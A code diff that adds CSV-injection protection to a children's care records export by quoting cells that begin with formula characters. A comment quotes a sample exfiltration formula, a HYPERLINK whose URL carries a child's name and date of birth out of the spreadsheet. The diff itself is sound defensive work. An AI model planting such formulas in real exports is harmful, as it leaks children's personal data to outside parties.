@@ -17,12 +17,23 @@ from storage import child_store, duty_store, episode_store, staff_store
 from storage.db import Reader
 from storage.models import Category, Child, EpisodeState, Staff
 
+# A spreadsheet runs a cell beginning with one of these as a formula (OWASP, CSV injection):
+# a carer's `=HYPERLINK("https://…?d="&D2&E2)` beside a child's name and date of birth.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral(cell: object) -> object:
+    """A text cell a spreadsheet would read as a formula is prefixed with a single quote."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_START):
+        return "'" + cell
+    return cell
+
 
 def _csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerows([neutral(cell) for cell in row] for row in rows)
     return buffer.getvalue()
 
 
